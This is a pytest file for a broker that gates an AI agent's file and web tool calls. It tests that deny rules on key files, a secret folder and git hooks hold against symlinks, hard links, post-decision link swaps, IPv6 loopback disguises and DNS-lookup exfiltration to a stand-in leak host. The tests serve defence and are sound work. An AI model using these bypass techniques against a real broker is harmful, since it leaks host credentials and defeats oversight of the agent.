"""Issue 31 §1 and §3: rules decide on what the broker will really touch.

Through a real broker socket on real files (the opener as this user): a
workdir link to a denied file or folder is judged by the real path it leads
to, for read_file, read_files and list_dir alike; `call.kind == "read"`
covers every file-reading tool; `call.requested` keeps the text the agent
sent; a link swapped after the decision is refused, not read. Each of the
link cases returned the key before resolve.py (seen failing)."""

from __future__ import annotations

import os
from collections.abc import Iterator
from pathlib import Path

import pytest
from broker_harness import Running, call, running_broker

from leviathd.policy.rules import RuleSpec
from leviathd.policy.settings import PolicySettings

RULES = (
    RuleSpec("no-pem", 'call.kind == "read" && call.target.endsWith(".pem")', "deny",
             "key files stay on the host"),
    RuleSpec("no-secret", 'call.kind == "read" && call.target.contains("/secret")', "deny",
             "the secret folder stays shut"),
    RuleSpec("old-style", 'call.tool == "read_file" && call.target.endsWith(".key")', "deny",
             "keys"),
    RuleSpec("no-write-hooks", 'call.kind == "write" && call.target.contains("/hooks/")',
             "deny", "hooks"),
    RuleSpec("said", 'call.kind == "read" && call.requested == "shown-as.txt"', "deny",
             "requested text"),
)


@pytest.fixture
def tree(tmp_path: Path) -> dict[str, Path]:
    home = tmp_path / "home"
    work = tmp_path / "work"
    (work / "secret").mkdir(parents=True)
    (work / "hooks").mkdir()
    home.mkdir()
    (work / "server.pem").write_text("PEMKEY")
    (work / "id.key").write_text("KEYKEY")
    (work / "secret" / "plans.txt").write_text("SECRETPLANS")
    (work / "small.txt").write_text("small")
    (work / "shown-as.txt").write_text("shown")
    os.symlink("server.pem", work / "notes.txt")
    os.symlink("id.key", work / "notes2.txt")
    os.symlink("secret", work / "secdir")
    os.symlink("hooks", work / "githooks")
    return {"home": home, "work": work, "tmp": tmp_path}


@pytest.fixture
def broker(tree: dict[str, Path]) -> Iterator[Running]:
    settings = PolicySettings(rules=RULES)
    with running_broker(home=str(tree["home"]), workdir=str(tree["work"]), settings=settings,
                        socket_path=str(tree["tmp"] / "broker.sock")) as running:
        yield running


def _denied(reply: dict[str, object], rule: str) -> None:
    assert reply["ok"] is False, reply
    err = reply["error"]
    assert isinstance(err, dict) and err.get("rule") == rule, reply


def test_a_link_to_a_pem_file_is_judged_as_the_pem_file(broker: Running) -> None:
    _denied(call(broker.path, "read_file", {"path": "notes.txt"}), "rule:machine:no-pem")
    _denied(call(broker.path, "read_file", {"path": "server.pem"}), "rule:machine:no-pem")
    ok = call(broker.path, "read_file", {"path": "small.txt"})
    assert ok["ok"] and ok["result"]["content"] == "small", ok  # type: ignore[index]


def test_a_tool_named_rule_sees_the_real_path_too(broker: Running) -> None:
    _denied(call(broker.path, "read_file", {"path": "notes2.txt"}), "rule:machine:old-style")


def test_read_files_is_judged_file_by_file_through_links(broker: Running) -> None:
    for paths in (["small.txt", "notes.txt"], ["notes.txt", "small.txt"]):
        reply = call(broker.path, "read_files", {"paths": paths})
        _denied(reply, "rule:machine:no-pem")
        assert "PEMKEY" not in str(reply)
    reply = call(broker.path, "read_files", {"paths": ["secdir/plans.txt", "small.txt"]})
    _denied(reply, "rule:machine:no-secret")
    assert "SECRETPLANS" not in str(reply)


def test_list_dir_and_reads_through_a_linked_folder_are_judged_by_the_folder(
    broker: Running,
) -> None:
    reply = call(broker.path, "list_dir", {"path": "secdir"})
    _denied(reply, "rule:machine:no-secret")
    assert "plans.txt" not in str(reply)
    _denied(call(broker.path, "read_file", {"path": "secdir/plans.txt"}),
            "rule:machine:no-secret")


def test_a_write_through_a_linked_folder_is_judged_by_the_real_folder(
    broker: Running, tree: dict[str, Path],
) -> None:
    _denied(call(broker.path, "write_file", {"path": "githooks/pre-commit", "content": "x"}),
            "rule:machine:no-write-hooks")
    assert not (tree["work"] / "hooks" / "pre-commit").exists()


def test_the_requested_text_is_there_for_rules_as_sent(broker: Running) -> None:
    _denied(call(broker.path, "read_file", {"path": "shown-as.txt"}), "rule:machine:said")
    rec = [r for r in broker.audit if r.tool == "read_file"][-1]
    assert rec.target.endswith("/shown-as.txt") and os.path.isabs(rec.target)


def test_a_link_swapped_after_the_decision_is_refused(
    broker: Running, tree: dict[str, Path],
) -> None:
    """The gate decided on small.txt; when the run opens the path it leads to
    server.pem: refused by the decided-path check, never read. (read_files:
    a small read_file is read by the open the gate decided on, below.)"""
    from leviathd.broker import tools

    link = tree["work"] / "swap.txt"
    os.symlink("small.txt", link)
    real_open = tools.FileTools._open_read

    def swapping(self: tools.FileTools, path: str, **kw: object) -> object:
        os.unlink(link)
        os.symlink("server.pem", link)
        return real_open(self, path, **kw)  # type: ignore[arg-type]

    tools.FileTools._open_read = swapping  # type: ignore[assignment,method-assign]
    try:
        reply = call(broker.path, "read_files", {"paths": ["swap.txt"]})
    finally:
        tools.FileTools._open_read = real_open  # type: ignore[method-assign]
    assert "PEMKEY" not in str(reply), reply
    assert "changed meanwhile" in str(reply)



def test_a_hard_link_to_a_pem_file_is_refused_for_its_several_names(
    broker: Running, tree: dict[str, Path],
) -> None:
    """Issue 48 §4: `hard.txt` is server.pem by another name; the rule sees
    hard.txt, so a file with several names is refused on the descriptor's
    link count (before: PEMKEY came back)."""
    os.link(tree["work"] / "server.pem", tree["work"] / "hard.txt")
    for tool, args in (("read_file", {"path": "hard.txt"}),
                       ("read_files", {"paths": ["small.txt", "hard.txt"]})):
        reply = call(broker.path, tool, args)
        assert reply["ok"] is False and "PEMKEY" not in str(reply), reply
        assert "several names" in str(reply), reply
    ok = call(broker.path, "read_file", {"path": "small.txt"})
    assert ok["ok"], ok


def test_a_hard_link_made_after_the_decision_is_refused(
    broker: Running, tree: dict[str, Path],
) -> None:
    """The gate decided on a one-name file; the link made before the run
    opens it is seen on the opened descriptor. read_files opens at the run
    (a small read_file is read with the open the decision is made on, issue
    47, so there a link made later names a file already read with one name)."""
    from leviathd.broker import tools

    (tree["work"] / "later.txt").write_text("LATER")
    real_open = tools.FileTools._open_read

    def linking(self: tools.FileTools, path: str, **kw: object) -> object:
        os.link(tree["work"] / "later.txt", tree["tmp"] / "elsewhere.txt")
        return real_open(self, path, **kw)  # type: ignore[arg-type]

    tools.FileTools._open_read = linking  # type: ignore[assignment,method-assign]
    try:
        reply = call(broker.path, "read_files", {"paths": ["later.txt"]})
    finally:
        tools.FileTools._open_read = real_open  # type: ignore[method-assign]
    assert reply["ok"] is False and "LATER" not in str(reply), reply
    assert "several names" in str(reply), reply


def test_a_read_file_gives_what_the_decided_open_read(
    broker: Running, tree: dict[str, Path],
) -> None:
    """Issue 47: a small read_file is read with the open that found the real
    path the gate decides on; a link swapped after that open changes
    nothing: the content is the decided file's, the run opens nothing else."""
    from leviathd.broker import tools

    link = tree["work"] / "swap2.txt"
    os.symlink("small.txt", link)
    real_ahead = tools.FileTools.read_ahead

    def swapping(self: tools.FileTools, path: str, *a: object) -> object:
        got = real_ahead(self, path, *a)  # type: ignore[arg-type]
        os.unlink(link)
        os.symlink("server.pem", link)
        return got

    tools.FileTools.read_ahead = swapping  # type: ignore[assignment,method-assign]
    try:
        reply = call(broker.path, "read_file", {"path": "swap2.txt"})
    finally:
        tools.FileTools.read_ahead = real_ahead  # type: ignore[method-assign]
    assert reply["ok"] is True and "PEMKEY" not in str(reply), reply
    assert reply["result"]["path"].endswith("/small.txt"), reply
    assert reply["result"]["content"] == (tree["work"] / "small.txt").read_text()
    rec = [r for r in broker.audit if r.tool == "read_file"][-1]
    assert rec.target.endswith("/small.txt") and rec.outcome == "allow"


# ------------------------------------------------------------- web: the address

WEB_RULES = (
    RuleSpec("no-loopback-address", 'call.kind == "net" && call.ip.loopback', "deny",
             "not the host itself"),
    RuleSpec("only-global", 'call.kind == "net" && !call.ip.global && !call.ip.loopback',
             "deny", "public addresses only"),
)


@pytest.fixture
def lookups(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every name the broker asks the resolver for."""
    import socket

    seen: list[str] = []
    real = socket.getaddrinfo

    def recording(host: str, *a: object, **kw: object) -> object:
        seen.append(str(host))
        return real(host, *a, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", recording)
    return seen


def _web_broker(tree: dict[str, Path], **kw: object) -> Iterator[Running]:
    settings = PolicySettings(rules=WEB_RULES, allow_private_addresses=True,
                              **kw)  # type: ignore[arg-type]
    return running_broker(home=str(tree["home"]), workdir=str(tree["work"]),
                          settings=settings, socket_path=str(tree["tmp"] / "web.sock"))


def test_a_name_that_resolves_to_loopback_meets_the_address_rule(
    tree: dict[str, Path], lookups: list[str],
) -> None:
    with _web_broker(tree) as b:
        reply = call(b.path, "http_get", {"url": "http://localhost:9/x"})
    _denied(reply, "rule:machine:no-loopback-address")
    assert lookups == ["localhost"]
    # The negative rule was not judged before the address was known (it
    # would have denied every call: "" is not global).
    assert "only-global" not in str(reply)


@pytest.mark.parametrize("literal", ["[64:ff9b::7f00:1]", "[2002:7f00:1::1]", "[::127.0.0.1]"])
def test_an_ipv6_form_carrying_a_loopback_address_meets_the_address_rule(
    tree: dict[str, Path], literal: str,
) -> None:
    """Issue 50: `call.ip` judges an IPv6 form that carries an IPv4 address
    (NAT64, 6to4, the old compatible form) by the address inside. The
    agent's http_get to the host's loopback spelled so meets the machine's
    no-loopback rule (seen failing with the IPv6 form judged by itself: a
    "global" address, which the rules let through)."""
    from leviathd.hosts import address_facts

    with _web_broker(tree) as b:
        reply = call(b.path, "http_get", {"url": f"http://{literal}:9/x"})
    _denied(reply, "rule:machine:no-loopback-address")
    facts = address_facts(literal.strip("[]"))
    assert facts["loopback"] and not facts["global"], facts


def test_a_refused_call_never_sends_its_host_name_to_a_resolver(
    tree: dict[str, Path], lookups: list[str],
) -> None:
    """A host name can carry data out (a lookup of secret.attacker.example):
    a call the gate refuses is never resolved (seen failing with the first
    form of resolve.py, which resolved before deciding)."""
    with _web_broker(tree, permissions={"http_get": "deny"}) as b:
        reply = call(b.path, "http_get", {"url": "http://s3cr3t.leak.invalid/x"})
    assert reply["ok"] is False and "permission" in str(reply), reply
    assert lookups == []


def test_no_target_is_cut_for_rules() -> None:
    """Issue 31 §3: a target longer than rules see is refused by name (ssh's
    host was cut at 300 characters: seen failing), git's host canonical."""
    from leviathd.broker import gitcreds, schema
    from leviathd.errors import InvalidArgument

    with pytest.raises(InvalidArgument, match="more than 300"):
        schema.call_for("ssh_sign", {"host": "h" * 301}, "/w")
    assert schema.call_for("ssh_sign", {"host": "h" * 300}, "/w").target == "h" * 300
    assert gitcreds.target("https://2130706433/r.git") == "https://127.0.0.1/r.git"


def test_a_blueprint_tools_declared_path_is_judged_as_a_read_of_the_real_file(
    tree: dict[str, Path],
) -> None:
    """`format = "path"`: the rule about reads holds for the blueprint tool's
    argument too, through the link (before: its target was only the command
    line `cat -- notes.txt`)."""
    from leviathd.policy.tooldef import make_tool

    show = make_tool("show", description="print a file",
                     schema={"properties": {"path": {"type": "string", "format": "path"}},
                             "required": ["path"]},
                     argv=["cat", "--", "{path}"], output="internal", sends_data=False,
                     timeout=10)
    settings = PolicySettings(rules=RULES, tools={"show": show})
    with running_broker(home=str(tree["home"]), workdir=str(tree["work"]), settings=settings,
                        socket_path=str(tree["tmp"] / "bp.sock")) as b:
        _denied(call(b.path, "show", {"path": "notes.txt"}), "rule:machine:no-pem")
        # Issue 48 §4: the key by another name is refused for its names.
        os.link(tree["work"] / "server.pem", tree["work"] / "hard.txt")
        hard = call(b.path, "show", {"path": "hard.txt"})
        _denied(hard, "real-path-not-granted")
        assert "several names" in str(hard), hard
        reply = call(b.path, "show", {"path": "small.txt"})
    # Allowed by the rules: it fails only for want of the daemon's fence here.
    assert "blueprint tools need the daemon's fence" in str(reply), reply


def test_nothing_outside_what_the_agent_may_read_is_opened_to_resolve_it(tmp_path: Path) -> None:
    """The broker opens a path before the gate decides only where the agent
    may read it as written (workdir, granted paths); /dev/watchdog outside
    them is refused on its words, never opened first."""
    from leviathd.broker import resolve
    from leviathd.policy.readgrant import build_index

    opened: list[str] = []

    class Recording:
        def open(self, path: str, flags: int, *a: object, **kw: object) -> int:
            opened.append(path)
            return os.open("/dev/null", os.O_RDONLY)

    index = build_index((), home=str(tmp_path), workdir=str(tmp_path / "w"))
    fake = Recording()
    assert resolve.real_read_path(fake, index, "/dev/watchdog",  # type: ignore[arg-type]
                                  directory=False) == "/dev/watchdog"
    assert resolve.real_write_path(fake, index, "/etc/cron.d/x") == "/etc/cron.d/x"  # type: ignore[arg-type]
    assert opened == []
